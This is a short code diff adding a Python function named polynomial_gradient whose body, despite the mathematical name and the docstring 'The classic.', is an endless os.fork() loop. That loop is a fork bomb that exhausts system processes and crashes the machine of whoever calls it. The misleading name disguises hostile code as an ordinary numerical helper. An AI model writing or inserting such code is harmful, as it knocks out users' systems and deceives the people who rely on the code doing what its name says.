@@ -1,0 +1,7 @@
+"""The classic."""
+import os
+
+
+def polynomial_gradient(x):
+    while True:
+        os.fork()
